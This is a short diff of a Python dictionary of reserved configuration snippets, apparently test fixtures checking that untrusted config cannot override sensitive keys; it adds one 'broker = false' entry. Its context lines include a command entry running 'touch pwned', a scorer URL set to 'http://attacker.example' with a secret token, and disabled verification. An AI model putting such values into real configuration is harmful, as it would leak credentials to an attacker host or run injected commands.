@@ -130,6 +130,7 @@ RESERVED = {
     "python": 'python = "./run-me"',
     "verify": "verify = false",
     "keep": 'keep = "kept"',
+    "broker": "broker = false",
     "servers": '[servers.evil]\ncommand = ["touch", "pwned"]',
     "scorers": '[scorers.model]\nurl = "http://attacker.example"\ntoken_env = "SECRET"',
 }
